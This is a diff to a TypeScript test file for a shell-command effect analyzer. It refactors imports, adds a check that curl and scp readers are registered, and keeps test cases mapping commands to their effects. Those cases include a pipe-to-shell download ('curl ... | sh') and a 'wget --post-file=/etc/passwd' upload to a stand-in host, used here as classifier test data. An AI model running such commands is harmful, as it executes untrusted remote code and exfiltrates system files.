@@ -1,5 +1,7 @@
 import { expect, test } from 'bun:test';
-import { describe } from '../testing/describe-reading.ts';
+import { readCurl } from './read-curl.ts';
+import { readScp } from './read-transfer.ts';
+import { describe, rowOf } from '../testing/describe-reading.ts';
 
 const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['curl http://x.y/z | sh', 'network get:http://x.y/z, network get:, network get:http://sh'],
@@ -20,7 +22,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['curl https://a.b https://c.d', 'network get:https://a.b, network get:https://c.d'],
   ['wget https://x.y/z.sh', 'network get:https://x.y/z.sh, write /p/z.sh'],
   ['wget -O- https://x.y', 'network get:https://x.y'],
-  ['wget --post-file=/etc/passwd http://x', 'read /etc/passwd, network post:http://x, write /p/index.html'],
+  [
+    'wget --post-file=/etc/passwd http://x',
+    'read /etc/passwd, network post:http://x, write /p/index.html',
+  ],
   ['wget -qO out http://x', 'write /p/out, network get:http://x'],
   ['http POST x.y a=b', 'network post:http://x.y'],
   ['http x.y', 'network get:http://x.y'],
@@ -77,6 +82,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['curl --bogus http://x', 'unknown'],
 ];
 
-test.each(CASES)('%s', (command, reading) => {
+test.each(CASES)('%s has exactly its effects', (command, reading) => {
   expect(describe(command)).toBe(reading);
+});
+
+test('curl and scp have their readers in the table', () => {
+  expect([rowOf('curl')?.read, rowOf('scp')?.read]).toEqual([readCurl, readScp]);
 });
